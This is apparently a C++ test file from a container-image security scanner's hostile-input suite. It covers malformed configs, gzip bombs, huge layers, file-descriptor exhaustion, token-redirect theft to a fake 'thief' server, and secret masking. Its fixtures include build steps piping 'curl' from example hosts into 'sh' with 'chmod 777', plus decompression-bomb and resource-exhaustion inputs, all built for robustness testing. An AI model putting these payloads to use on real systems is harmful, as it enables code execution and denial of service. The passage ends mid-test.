// Hostile images, registries and resources, through the real bulwarkd and Debian's
// docker-registry: each case is one way an attacker (or a bad day) broke the daemon before.
#include "daemon.h"
#include "fault_server.h"
#include "registry.h"
#include "tar_builder.h"

#include <doctest/doctest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <thread>

using namespace bw::test;
using nlohmann::json;

namespace {

std::string small_base() {
  return TarBuilder()
      .file("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
      .file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/sbin/nologin\n")
      .file("app/run", "#!/bin/sh\necho hi\n", 0755)
      .build();
}

TestImage clean_image(std::vector<TestLayer> layers) {
  TestImage img(std::move(layers));
  img.config = {{"User", "1000:1000"}, {"Healthcheck", {{"Test", {"CMD", "/app/run"}}}}};
  return img;
}

// A layer pushed as given: the registry stores any bytes under their digest.
TestLayer raw_layer(std::string blob) {
  TestLayer l;
  l.blob = std::move(blob);
  l.media_type = "application/vnd.oci.image.layer.v1.tar+gzip";
  l.diff_id = sha256(l.blob);
  return l;
}

json post_scan(Daemon& d, const json& body, int expect = 202) {
  auto r = d.api().call("POST", "/v1/scans", body.dump());
  REQUIRE(r);
  INFO(r->body);
  CHECK(r->status == expect);
  return json::parse(r->body);
}

json wait_scan(Daemon& d, const std::string& id) {
  json s;
  for (int i = 0; i < 60; ++i) {
    s = d.get_json("/v1/scans/" + id + "?wait=10");
    std::string st = s["status"];
    if (st == "done" || st == "failed" || st == "cancelled") return s;
  }
  FAIL("scan " << id << " did not finish: " << s.dump());
  return s;
}

bool has_finding(const json& report, const std::string& rule) {
  for (auto& f : report["findings"])
    if (f["rule_id"] == rule) return true;
  return false;
}

std::string sqlite(const std::string& db, const std::string& sql) {
  std::string out;
  run_command({"sqlite3", "-cmd", ".timeout 10000", db, sql}, out);
  return out;
}

std::size_t count_of(const std::string& text, const std::string& needle) {
  std::size_t n = 0;
  for (auto pos = text.find(needle); pos != std::string::npos; pos = text.find(needle, pos + 1))
    ++n;
  return n;
}

// A memory figure of a process from /proc/PID/status, in MiB: "VmHWM" (peak resident) or
// "VmRSS" (resident now).
long status_mib(pid_t pid, const std::string& field) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(in, line))
    if (line.starts_with(field + ":")) return std::stol(line.substr(field.size() + 1)) / 1024;
  return -1;
}

long peak_rss_mib(pid_t pid) {
  return status_mib(pid, "VmHWM");
}

long rss_mib(pid_t pid) {
  return status_mib(pid, "VmRSS");
}

// Polls `target` (/healthz unless named) every 20 ms until stopped; keeps the slowest answer.
struct HealthProbe {
  explicit HealthProbe(const bw::cli::ApiClient& api, std::string target = "/healthz")
      : api_(api), target_(std::move(target)) {
    thread_ = std::thread([this] {
      while (!stop_) {
        auto t0 = std::chrono::steady_clock::now();
        auto r = api_.call("GET", target_, "", std::chrono::seconds(30));
        auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                      std::chrono::steady_clock::now() - t0)
                      .count();
        if (!r || r->status != 200) ++failures_;
        worst_ms_ = std::max<long>(worst_ms_, ms);
        ++probes_;
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
      }
    });
  }
  ~HealthProbe() { finish(); }
  void finish() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }
  const bw::cli::ApiClient& api_;
  std::string target_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<long> worst_ms_{0};
  std::atomic<int> failures_{0};
  std::atomic<int> probes_{0};
};

}  // namespace

TEST_CASE(
    "1: a config with fields of the wrong type fails the scan, stores nothing, and stored "
    "data never stops start-up") {
  LocalRegistry reg;
  TestImage poisoned = clean_image({make_layer(small_base())});
  poisoned.history = json::array({{{"created_by", 5}, {"empty_layer", "no"}}});
  auto p = push_image(reg.host(), "evil/poison", "1", poisoned);
  auto good = push_image(reg.host(), "team/good", "1", clean_image({make_layer(small_base())}));

  TempDir data;
  {
    Daemon d(json::object(), data.path());
    json s = d.scan(reg.host() + "/evil/poison:1");
    CHECK(s["status"] == "failed");
    CHECK(s["error"]["code"] == "invalid_image");
    CHECK(s["error"]["message"].get<std::string>().find("history[0].created_by must be a string") !=
          std::string::npos);
    d.get_json("/v1/images/" + p.manifest_digest, 404);
    REQUIRE(d.scan(reg.host() + "/team/good:1")["status"] == "done");
    CHECK(d.get_json("/v1/images/" + good.manifest_digest + "/report")["score"].is_number());
  }
  // A record stored before validation existed (edited here into the database) cannot be
  // re-scored: the daemon still starts, serves, and names the image's problem.
  std::string db = data.path() + "/bulwark.db";
  sqlite(db,
         "UPDATE images SET config = '{\"history\":[{\"created_by\":5}],\"config\":{\"User\":7}}'; "
         "DELETE FROM reports;");
  Daemon again(json::object(), data.path());
  CHECK(again.get_json("/healthz")["status"] == "ok");
  auto r = again.api().call("GET", "/v1/images/" + good.manifest_digest + "/report");
  REQUIRE(r);
  CHECK(r->status == 422);
  CHECK(json::parse(r->body)["error"]["code"] == "invalid_image");
  CHECK(again.get_json("/v1/stats")["images"] == 1);
}

TEST_CASE("2: a layer of 500,000 entries is stored in seconds while the API keeps answering") {
  LocalRegistry reg;
  TarBuilder many;
  for (int i = 0; i < 500'000; ++i) many.file("etc/f" + std::to_string(i), "");
  TestImage img = clean_image({make_layer(many.build())});
  auto p = push_image(reg.host(), "evil/many", "1", img);
  Daemon d;
  HealthProbe probe(d.api());
  auto t0 = std::chrono::steady_clock::now();
  json s = d.scan(reg.host() + "/evil/many:1");
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  probe.finish();
  REQUIRE(s["status"] == "done");
  json layer = d.get_json("/v1/layers/" + img.layers[0].digest());
  CHECK(layer["entry_count"] == 500'000);
  CHECK(layer["status"] == "limit_exceeded");  // 50,000 notable entries recorded, the rest counted
  CHECK(layer["status_reason"].get<std::string>().find("max_notable_entries") != std::string::npos);
  CHECK(probe.failures_ == 0);
  CHECK(probe.probes_ > 0);
  MESSAGE("500k-entry layer: scan " << secs << " s; /healthz worst " << probe.worst_ms_.load()
                                    << " ms over " << probe.probes_.load() << " probes; peak RSS "
                                    << peak_rss_mib(d.pid()) << " MiB (ASan build)");
  json report = d.get_json("/v1/images/" + p.manifest_digest + "/report");
  CHECK(has_finding(report, "BW-LAYER-UNANALYSED"));
  // Reading the huge image back is built on a worker: the API keeps answering meanwhile.
  HealthProbe reads(d.api());
  CHECK(d.get_json("/v1/images/" + p.manifest_digest)["layers"].size() == 1);
  CHECK(d.get_json("/v1/layers/" + img.layers[0].digest())["entry_count"] == 500'000);
  reads.finish();
  CHECK(reads.failures_ == 0);
  MESSAGE("reading the 500k-entry image and layer back: /healthz worst "
          << reads.worst_ms_.load() << " ms over " << reads.probes_.load() << " probes");
}

TEST_CASE("2: long notable paths are bounded in bytes, and memory stays bounded") {
  LocalRegistry reg;
  TarBuilder deep;
  std::string dir = "etc/" + std::string(3900, 'd');
  for (int i = 0; i < 40'000; ++i) deep.file(dir + "/" + std::to_string(i), "");
  TestImage img = clean_image({make_layer(deep.build())});
  push_image(reg.host(), "evil/deep", "1", img);
  Daemon d(json{{"limits", {{"max_notable_bytes", 8 << 20}}}});
  HealthProbe probe(d.api());
  json s = d.scan(reg.host() + "/evil/deep:1");
  probe.finish();
  REQUIRE(s["status"] == "done");
  json layer = d.get_json("/v1/layers/" + img.layers[0].digest());
  CHECK(layer["status"] == "limit_exceeded");
  CHECK(layer["status_reason"].get<std::string>().find("max_notable_bytes") != std::string::npos);
  CHECK(probe.failures_ == 0);
  MESSAGE("40k paths of 3.9 KB: /healthz worst " << probe.worst_ms_.load() << " ms; peak RSS "
                                                 << peak_rss_mib(d.pid()) << " MiB (ASan build)");
}

TEST_CASE(
    "3: a refresh token never follows a redirect, and credentials reach only the "
    "registry's own realm") {
  FaultServer thief(
      [](const SeenRequest&) {
        return Reply{200, {}, "{\"token\":\"x\"}"};
      },
      "127.0.0.2");
  std::string thief_url = "http://" + thief.host() + "/steal";
  FaultServer realm([&](const SeenRequest&) { return Reply{307, {{"Location", thief_url}}, ""}; });
  // A realm on another host, over plain HTTP.
  FaultServer far_realm(
      [&](const SeenRequest&) {
        return Reply{307, {{"Location", thief_url}}, ""};
      },
      "127.0.0.2");
  std::string realm_url = "http://" + realm.host() + "/token";
  FaultServer registry([&](const SeenRequest& req) {
    if (!req.header("authorization").empty() && req.header("authorization") != "Bearer x")
      return Reply{500, {}, "unexpected credentials"};
    return Reply{401,
                 {{"WWW-Authenticate", "Bearer realm=\"" + realm_url +
                                           "\",service=\"reg\",scope=\"repository:a/b:pull\""}},
                 "{}"};
  });
  TempDir docker;
  write_file(
      docker.path() + "/config.json",
      json{{"auths", {{registry.host(), {{"identitytoken", "alice-refresh-secret"}}}}}}.dump());
  {
    // The realm is on another host over plain HTTP, and not configured: asked anonymously, and
    // the scan's error names the realm and the setting that would allow it.
    realm_url = "http://" + far_realm.host() + "/token";
    Daemon d(json{{"registries", {{"allowed", {"127.0.0.1", "127.0.0.2"}}}}}, "",
             {"DOCKER_CONFIG=" + docker.path()});
    json s = d.scan(registry.host() + "/a/b:1");
    CHECK(s["status"] == "failed");
    CHECK_FALSE(far_realm.requests().empty());
    for (auto& r : far_realm.requests()) {
      CHECK(r.method == "GET");
      CHECK(r.body.find("alice-refresh-secret") == std::string::npos);
      CHECK(r.header("authorization").empty());
    }
    for (auto& r : thief.requests())
      CHECK(r.body.find("alice-refresh-secret") == std::string::npos);
    std::string why = s["error"]["message"];
    INFO(why);
    CHECK(why.find("not sent to its token realm http://" + far_realm.host()) != std::string::npos);
    CHECK(why.find("token_realms") != std::string::npos);
    CHECK(why.find("--token-realm") != std::string::npos);
    CHECK(d.log().find("alice-refresh-secret") == std::string::npos);
    realm_url = "http://" + realm.host() + "/token";
  }
  {
    // Listed as this registry's token realm: the grant is sent there, and its 307 to another
    // origin is refused instead of replaying the body.
    json cfg = {{"registries",
                 {{"allowed", {"127.0.0.1", "127.0.0.2"}},
                  {"hosts", {{registry.host(), {{"token_realms", {realm.host()}}}}}}}}};
    Daemon d(cfg, "", {"DOCKER_CONFIG=" + docker.path()});
    std::size_t thief_before = thief.requests().size();
    json s = d.scan(registry.host() + "/a/b:1");
    CHECK(s["status"] == "failed");
    auto asked = realm.requests();
    CHECK(std::any_of(asked.begin(), asked.end(), [](auto& r) {
      return r.method == "POST" && r.body.find("alice-refresh-secret") != std::string::npos;
    }));
    CHECK(thief.requests().size() == thief_before);  // the grant is not replayed there
    CHECK(s["error"]["message"].get<std::string>().find("redirect") != std::string::npos);
  }
}

TEST_CASE("4: layers that cannot be read fail closed") {
  LocalRegistry reg;
  std::string tar = small_base();
  std::string gz =
      gzip(TarBuilder().file("usr/bin/tool", std::string(200'000, 'x'), 04755).build());
  std::string random(5000, '\0');
  for (std::size_t i = 0; i < random.size(); ++i) random[i] = static_cast<char>((i * 7919) % 251);
  struct Case {
    const char* name;
    TestLayer layer;
    const char* status;
  };
  std::vector<Case> cases = {{"truncated", raw_layer(gz.substr(0, gz.size() / 2)), "invalid"},
                             {"random", raw_layer(random), "invalid"},
                             {"bomb", raw_layer(gzip_bomb(64ull << 20)), "limit_exceeded"}};
  Daemon d(json{{"limits", {{"max_uncompressed_bytes", 16 << 20}}}});
  for (auto& c : cases) {
    CAPTURE(c.name);
    auto p = push_image(reg.host(), std::string("evil/") + c.name, "1",
                        clean_image({make_layer(tar), c.layer}));
    json scan =
        post_scan(d, {{"image", reg.host() + "/evil/" + c.name + ":1"}, {"fail_under", 90}});
    json s = wait_scan(d, scan["id"]);
    REQUIRE(s["status"] == "done");
    CHECK(s["verdict"] == "fail");
    CHECK(d.get_json("/v1/layers/" + c.layer.digest())["status"] == c.status);
    json report = d.get_json("/v1/images/" + p.manifest_digest + "/report");
    CHECK(has_finding(report, "BW-LAYER-UNANALYSED"));
    CHECK(report["score"].get<int>() < 90);
  }
}

TEST_CASE("5: running out of descriptors backs off instead of spinning") {
  Daemon d;
  // Lower the running daemon's descriptor limit (soft and hard) far below what it has open
  // plus what the test opens.
  std::string out;
  REQUIRE(run_command({"prlimit", "--pid", std::to_string(d.pid()), "--nofile=48:48"}, out) == 0);
  auto port = d.api().server().substr(d.api().server().rfind(':') + 1);
  std::vector<int> fds;
  for (int i = 0; i < 80; ++i) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) fds.push_back(fd);
  }
  std::this_thread::sleep_for(std::chrono::seconds(2));
  std::string log = d.log();
  std::size_t warnings = count_of(log, "accept failed");
  MESSAGE("descriptor exhaustion: " << warnings << " accept warnings in 2 s");
  CHECK(warnings >= 1);
  CHECK(warnings < 10);
  for (int fd : fds) close(fd);
  // Idle connections were closed: the daemon serves again.
  bool served = false;
  for (int i = 0; i < 100 && !served; ++i) {
    auto r = d.api().call("GET", "/healthz");
    served = r && r->status == 200;
    if (!served) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  CHECK(served);
  CHECK(d.metric("bulwark_http_accept_backoffs_total") >= 1);
}

TEST_CASE(
    "6: a full disk fails the scan with its reason, and the store recovers once space "
    "returns") {
  TempDir mnt;
  if (mount("tmpfs", mnt.path().c_str(), "tmpfs", 0, "size=6m") != 0) {
    MESSAGE("skipped: cannot mount a tmpfs here (" << strerror(errno) << ")");
    return;
  }
  struct Unmount {
    std::string path;
    ~Unmount() { umount2(path.c_str(), MNT_DETACH); }
  } unmount{mnt.path()};
  LocalRegistry reg;
  auto first = push_image(reg.host(), "team/a", "1", clean_image({make_layer(small_base())}));
  std::string noise(3 << 20, '\0');
  for (std::size_t i = 0; i < noise.size(); ++i)
    noise[i] = static_cast<char>((i * 2654435761u) >> 13);
  TarBuilder big;
  for (int i = 0; i < 4000; ++i)
    big.file("etc/conf" + std::to_string(i), noise.substr(i * 700, 700));
  auto second = push_image(reg.host(), "team/b", "1", clean_image({make_layer(big.build())}));

  std::string data = mnt.path() + "/data";
  Daemon d(json::object(), data);
  REQUIRE(d.scan(reg.host() + "/team/a:1")["status"] == "done");
  // Fill what is left of the disk.
  std::string filler = mnt.path() + "/filler";
  {
    std::ofstream f(filler, std::ios::binary);
    std::string mb(1 << 20, 'f');
    for (int i = 0; i < 16 && f; ++i) f.write(mb.data(), static_cast<std::streamsize>(mb.size()));
  }
  auto r = d.api().call("POST", "/v1/scans", json{{"image", reg.host() + "/team/b:1"}}.dump());
  REQUIRE(r);
  std::string scan_id;
  if (r->status == 507) {
    CHECK(json::parse(r->body)["error"]["code"] == "insufficient_storage");
  } else {
    REQUIRE(r->status == 202);
    scan_id = json::parse(r->body)["id"];
    json s = wait_scan(d, scan_id);
    CHECK(s["status"] == "failed");
    CHECK(s["error"]["code"] == "insufficient_storage");
  }
  std::filesystem::remove(filler);
  // Space is back: reads, readiness and new scans work without a restart.
  CHECK(d.get_json("/readyz")["status"] == "ready");
  CHECK(d.get_json("/v1/stats")["images"] == 1);
  json again = d.scan(reg.host() + "/team/b:1");
  CHECK(again["status"] == "done");
  CHECK(again["manifest_digest"] == second.manifest_digest);
  CHECK(d.get_json("/v1/images/" + first.manifest_digest)["manifest_digest"] ==
        first.manifest_digest);
  if (!scan_id.empty()) {
    // The failed scan's final state reached the store: it does not run again at restart.
    std::this_thread::sleep_for(std::chrono::seconds(2));
    CHECK(d.get_json("/v1/scans/" + scan_id)["status"] == "failed");
    d.stop();
    Daemon restarted(json::object(), data);
    CHECK(restarted.get_json("/v1/scans/" + scan_id)["status"] == "failed");
    CHECK(restarted.log().find("recovered") == std::string::npos);
  }
  std::string check;
  run_command({"sqlite3", data + "/bulwark.db", "PRAGMA integrity_check"}, check);
  CHECK(check == "ok\n");
}

TEST_CASE("DELETE cancels a running scan: the transfer stops and nothing of the layer is stored") {
  TestLayer layer = make_layer(TarBuilder()
                                   .file("etc/os-release", "ID=alpine\nVERSION_ID=3.20.0\n")
                                   .file("app/data", std::string(64 << 10, 'x'))
                                   .build());
  TestImage img = clean_image({layer});
  BuiltImage built = build_image(img);
  FaultServer reg([&](const SeenRequest& req) {
    return serve_built_image(built, req, [&](const std::string& blob) {
      return std::chrono::milliseconds(blob == layer.blob ? 20 : 0);
    });
  });
  Daemon d;
  std::string id = post_scan(d, {{"image", reg.host() + "/team/slow:1"}})["id"];
  bool fetching = false;
  for (int i = 0; i < 200 && !fetching; ++i) {
    json s = d.get_json("/v1/scans/" + id);
    fetching = s["status"] == "running" && !s["progress"]["layers"].empty() &&
               s["progress"]["layers"][0]["state"] == "fetching";
    if (!fetching) std::this_thread::sleep_for(std::chrono::milliseconds(25));
  }
  REQUIRE(fetching);
  auto del = d.api().call("DELETE", "/v1/scans/" + id);
  REQUIRE(del);
  CHECK(del->status == 200);
  json s = wait_scan(d, id);
  CHECK(s["status"] == "cancelled");
  CHECK(s["error"]["code"] == "cancelled");
  CHECK(d.metric("bulwark_scans_finished_total{outcome=\"cancelled\"}") == 1);
  CHECK(d.metric("bulwark_layers_analyzed_total") == 0);
  CHECK(d.get_json("/v1/layers/" + layer.digest(), 404)["error"]["code"] == "not_found");
  // A finished scan is answered as it is; an unknown one is not found.
  auto again = d.api().call("DELETE", "/v1/scans/" + id);
  REQUIRE(again);
  CHECK(again->status == 200);
  CHECK(json::parse(again->body)["status"] == "cancelled");
  auto unknown = d.api().call("DELETE", "/v1/scans/scan_" + std::string(32, '0'));
  REQUIRE(unknown);
  CHECK(unknown->status == 404);
}

TEST_CASE(
    "7 and 8: kill -9 mid-scan is recovered exactly once; SIGTERM during a heavy layer "
    "exits within the grace period") {
  // A registry that drips its one layer, so that the scan is surely running when killed.
  std::string layer_tar = small_base();
  TestLayer layer = make_layer(layer_tar);
  TestImage img = clean_image({layer});
  BuiltImage built = build_image(img);
  std::atomic<bool> slow{true};
  FaultServer reg([&](const SeenRequest& req) {
    return serve_built_image(built, req, [&](const std::string& blob) {
      return std::chrono::milliseconds(slow && blob == layer.blob ? 40 : 0);
    });
  });
  TempDir data;
  std::string id;
  {
    Daemon d(json::object(), data.path());
    id = post_scan(d, {{"image", reg.host() + "/team/slow:1"}})["id"];
    for (int i = 0; i < 100; ++i) {
      json s = d.get_json("/v1/scans/" + id);
      if (s["status"] == "running" && !s["progress"]["layers"].empty() &&
          s["progress"]["layers"][0]["state"] == "fetching")
        break;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    // The layer drips for several seconds: the transfer is surely under way now.
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    REQUIRE(d.get_json("/v1/scans/" + id)["status"] == "running");
    d.kill();
  }
  slow = false;
  auto before = reg.requests();
  auto manifests_before = std::count_if(before.begin(), before.end(), [](auto& r) {
    return r.target.find("/manifests/") != std::string::npos;
  });
  {
    Daemon d(json::object(), data.path());
    json s = wait_scan(d, id);
    CHECK(s["status"] == "done");
    std::string log = d.log();
    INFO(log);
    CHECK(count_of(log, "scan recovered scan=" + id) == 1);
    CHECK(count_of(log, "scan done scan=" + id) == 1);
    auto seen = reg.requests();
    auto manifests = std::count_if(seen.begin(), seen.end(), [](auto& r) {
      return r.target.find("/manifests/") != std::string::npos;
    });
    CHECK(manifests - manifests_before == 1);
  }

  // A layer heavy enough to keep a worker busy for long: SIGTERM with a 1 s grace period ends
  // the process cleanly, soon, and the scan resumes at the next start.
  LocalRegistry real;
  TarBuilder heavy;
  for (int i = 0; i < 300'000; ++i)
    heavy.file("usr/bin/t" + std::to_string(i), "#!/bin/sh\n", 0755);
  auto pushed =
      push_image(real.host(), "team/heavy", "1", clean_image({make_layer(heavy.build())}));
  TempDir data2;
  Daemon d(json{{"shutdown_grace_s", 1}}, data2.path());
  std::string heavy_id = post_scan(d, {{"image", real.host() + "/team/heavy:1"}})["id"];
  for (int i = 0; i < 200; ++i) {
    json s = d.get_json("/v1/scans/" + heavy_id);
    if (s["status"] == "running" && !s["progress"]["layers"].empty() &&
        s["progress"]["layers"][0]["state"] == "fetching")
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  auto t0 = std::chrono::steady_clock::now();
  int status = d.stop();
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  MESSAGE("SIGTERM during a heavy layer: exited after " << secs << " s (grace 1 s)");
  CHECK(WIFEXITED(status));
  CHECK(WEXITSTATUS(status) == 0);
  Daemon resumed(json::object(), data2.path());
  json s = wait_scan(resumed, heavy_id);
  CHECK(s["status"] == "done");
  CHECK(s["manifest_digest"] == pushed.manifest_digest);
}

TEST_CASE("9: secrets are masked before anything is stored, with a fixed-width mask") {
  LocalRegistry reg;
  TestImage img = clean_image(
      {make_layer(small_base()),
       make_layer(TarBuilder()
                      .file("app/.env",
                            "AWS_SECRET_ACCESS_KEY=\"wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQQQQQKEY1\"\n")
                      .build())});
  img.config["Env"] = {"PATH=/bin", "PASSWORD=hunter2", "DB_TOKEN=s3cr3t-t0ken-value",
                       "DB_URL=postgres://admin:u7l-pa55word@db/x"};
  // Secrets outside KEY=value: a label, a command-line option, a URL in the entrypoint.
  img.config["Labels"] = {{"password", "l4bel-s3cret"}, {"org.example.team", "payments"}};
  img.config["Entrypoint"] = {"/app/server", "--db=mysql://root:3ntry-pa55@db/app"};
  img.config["Cmd"] = {"--password", "cmd-pa55word", "--port", "8080"};
  img.history =
      json::array({{{"created_by", "/bin/sh -c #(nop) ADD file:abc in / "}},
                   {{"created_by", "RUN |1 API_KEY=k3y-planted /bin/sh -c ./setup # buildkit"}}});
  auto p = push_image(reg.host(), "team/secrets", "1", img);
  Daemon d;
  REQUIRE(d.scan(reg.host() + "/team/secrets:1")["status"] == "done");
  std::string report = d.api().call("GET", "/v1/images/" + p.manifest_digest + "/report")->body;
  CHECK(report.find("PASSWORD=****\"") != std::string::npos);
  // Every answer that shows the image: report, record, recommendations, lists, the scan.
  for (const std::string& target :
       {"/v1/images/" + p.manifest_digest, "/v1/images/" + p.manifest_digest + "/recommendations",
        std::string("/v1/images?limit=10"), std::string("/v1/scans?limit=10")})
    report += d.api().call("GET", target)->body;
  // Each form is found, and its value masked in the finding too.
  json findings = json::parse(
      d.api().call("GET", "/v1/images/" + p.manifest_digest + "/report")->body)["findings"];
  std::set<std::string> keys;
  for (auto& f : findings)
    if (f["rule_id"] == "BW-SECRET-ENV" || f["rule_id"] == "BW-SECRET-CONFIG")
      keys.insert(f["rule_id"].get<std::string>() + " " + f["evidence"].value("config_key", ""));
  CHECK(keys.count("BW-SECRET-ENV DB_URL"));
  CHECK(keys.count("BW-SECRET-CONFIG config.Labels.password"));
  CHECK(keys.count("BW-SECRET-CONFIG config.Entrypoint"));
  CHECK(keys.count("BW-SECRET-CONFIG config.Cmd"));
  CHECK_FALSE(keys.count("BW-SECRET-CONFIG config.Labels.org.example.team"));
  // What the app needs to run keeps its shape, with the values masked.
  CHECK(report.find("\"--port\"") != std::string::npos);
  d.stop();
  std::string db = d.data_dir() + "/bulwark.db";
  std::string everything;
  for (auto& f : std::filesystem::directory_iterator(d.data_dir()))
    everything += read_file(f.path().string());
  for (const char* planted : {"hunter2", "s3cr3t-t0ken-value", "k3y-planted", "wJalrXUtnFEMI",
                              "u7l-pa55word", "l4bel-s3cret", "3ntry-pa55", "cmd-pa55word"}) {
    CAPTURE(planted);
    CHECK(everything.find(planted) == std::string::npos);
    CHECK(report.find(planted) == std::string::npos);
  }
  // The mask does not tell the length: the same four stars for a 7- and an 18-byte value.
  std::string config = sqlite(db, "SELECT config FROM images");
  CHECK(config.find("PASSWORD=****\"") != std::string::npos);
  CHECK(config.find("DB_TOKEN=****\"") != std::string::npos);
  CHECK(config.find("API_KEY=****") != std::string::npos);
  CHECK(config.find("*****") == std::string::npos);
}

TEST_CASE("10: strict query numbers, port ranges, and no port scanning through errors") {
  Daemon d;
  for (const char* target : {"/v1/scans?limit=5abc", "/v1/scans?limit=0", "/v1/scans?status=bogus",
                             "/v1/scans?limit=5&limit=6", "/v1/images?sort=score&sort=name"}) {
    CAPTURE(target);
    auto r = d.api().call("GET", target);
    REQUIRE(r);
    CHECK(r->status == 400);
    CHECK(json::parse(r->body)["error"]["code"] == "bad_request");
  }
  for (const char* image : {"127.0.0.1:99999/a/b:1", "127.0.0.1:0/a/b:1"}) {
    json e = post_scan(d, {{"image", image}}, 400);
    CHECK(e["error"]["code"] == "bad_reference");
  }
  // A closed port and a port whose server is no registry read the same.
  unsigned short closed = free_port();
  FaultServer web([](const SeenRequest&) { return Reply{404, {}, "<html>not here</html>"}; });
  json a = d.scan("127.0.0.1:" + std::to_string(closed) + "/x/y:1");
  json b = d.scan(web.host() + "/x/y:1");
  CHECK(a["error"]["code"] == "registry_unreachable");
  CHECK(b["error"]["code"] == "registry_unreachable");
  auto shape = [](std::string msg, const std::string& host) {
    return msg.replace(msg.find(host), host.size(), "HOST");
  };
  CHECK(shape(a["error"]["message"], "127.0.0.1:" + std::to_string(closed)) ==
        shape(b["error"]["message"], web.host()));
}

// Configs under the size limit that once became reports hundreds of times their size: a 5 MB
// User echoed by findings and advice (20 MB stored), and 60,000 build steps that each trip
// three rules with 9,000 secret env entries (154 MB stored, 3.5 GB of RSS).
TestImage amplifying_user() {
  TestImage img = clean_image({make_layer(small_base())});
  img.config["User"] = std::string(5'000'000, 'u');
  return img;
}

TestImage amplifying_history() {
  TestImage img = clean_image({make_layer(small_base())});
  json history = json::array({{{"created_by", "/bin/sh -c #(nop) ADD file:abc in / "}}});
  for (int i = 0; i < 60'000; ++i)
    history.push_back(
        {{"created_by", "/bin/sh -c curl -fsSL http://x" + std::to_string(i) +
                            ".example/i.sh | sh && chmod 777 /opt/" + std::to_string(i)},
         {"empty_layer", true}});
  img.history = history;
  json env = json::array({"PATH=/bin"});
  for (int i = 0; i < 9'000; ++i)
    env.push_back("PASSWORD" + std::to_string(i) + "=hunter" + std::to_string(i));
  img.config["Env"] = env;
  return img;
}

std::size_t counted(const json& report, const std::string& rule) {
  std::size_t n = 0;
  for (auto& f : report["findings"])
    if (f["rule_id"] == rule) n += 1 + f.value("more", std::size_t{0});
  return n;
}

TEST_CASE(
    "11: configs that amplify make bounded reports; the API keeps answering, memory returns") {
  LocalRegistry reg;
  auto user = push_image(reg.host(), "evil/user", "1", amplifying_user());
  auto steps = push_image(reg.host(), "evil/steps", "1", amplifying_history());
  push_image(reg.host(), "fine/app", "1", clean_image({make_layer(small_base())}));
  {
    Daemon d;
    REQUIRE(d.scan(reg.host() + "/fine/app:1")["status"] == "done");
    const long rss_before = rss_mib(d.pid());
    HealthProbe health(d.api());
    HealthProbe stats(d.api(), "/v1/stats");
    std::map<std::string, double> secs;
    for (const char* ref : {"/evil/user:1", "/evil/steps:1"}) {
      auto t0 = std::chrono::steady_clock::now();
      json s = d.scan(reg.host() + ref);
      secs[ref] = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
      REQUIRE_MESSAGE(s["status"] == "done", s.dump());
    }
    std::map<std::string, std::size_t> bytes;
    json user_report, steps_report;
    for (auto [digest, out] : {std::pair{user.manifest_digest, &user_report},
                               std::pair{steps.manifest_digest, &steps_report}}) {
      auto r = d.api().call("GET", "/v1/images/" + digest + "/report");
      REQUIRE(r);
      bytes[digest] = r->body.size();
      *out = json::parse(r->body);
    }
    health.finish();
    stats.finish();
    const long rss_after = rss_mib(d.pid());
    CHECK(health.failures_ == 0);
    CHECK(stats.failures_ == 0);
    // Kilobytes, not megabytes: the bound is the catalog's, not the config's.
    CHECK(bytes[user.manifest_digest] < 200'000);
    CHECK(bytes[steps.manifest_digest] < 500'000);
    CHECK(counted(steps_report, "BW-PIPE-SHELL") == 60'000);
    CHECK(counted(steps_report, "BW-CHMOD-777") == 60'000);
    CHECK(counted(steps_report, "BW-SECRET-ENV") == 9'000);
    CHECK(steps_report.dump().find("hunter") == std::string::npos);
    for (auto& f : user_report["findings"])
      for (auto& [k, v] : f["evidence"].items())
        if (v.is_string()) CHECK(v.get_ref<const std::string&>().size() < 1100);
    // What is stored is as small as what is served.
    std::string db = d.data_dir() + "/bulwark.db";
    CHECK(std::stol("0" + sqlite(db, "SELECT max(length(report)) FROM reports")) < 500'000);
    CHECK(std::stol("0" + sqlite(db, "SELECT max(length(user)) FROM images")) < 5'000);
    // Before, the daemon held 2.5 GB after such a scan. What remains now is the allocator's:
    // the sanitizer build keeps up to 256 MiB of freed memory in quarantine and its pools
    // mapped (the release build's figure is in README).
    CHECK(rss_after - rss_before < 1024);
    MESSAGE("5 MB User: scan " << secs["/evil/user:1"] << " s, report "
                               << bytes[user.manifest_digest] << " bytes; 60,000 steps: scan "
                               << secs["/evil/steps:1"] << " s, report "
                               << bytes[steps.manifest_digest] << " bytes; /healthz worst "
                               << health.worst_ms_.load() << " ms, /v1/stats worst "
                               << stats.worst_ms_.load() << " ms; RSS " << rss_before << " -> "
                               << rss_after << " MiB (ASan build)");
  }
  // A scheduled pass over the registry holding both: the same answers while it runs.
  Daemon d(json{{"schedules", {{{"registry", reg.host()}, {"interval_minutes", 600}}}}});
  HealthProbe health(d.api());
  HealthProbe stats(d.api(), "/v1/stats");
  // The 60,000-step config alone takes a minute in the sanitizer build on a loaded machine.
  CHECK(eventually([&] { return d.get_json("/v1/scans?status=done")["scans"].size() == 3; },
                   std::chrono::seconds(300)));
  health.finish();
  stats.finish();
  CHECK(health.failures_ == 0);
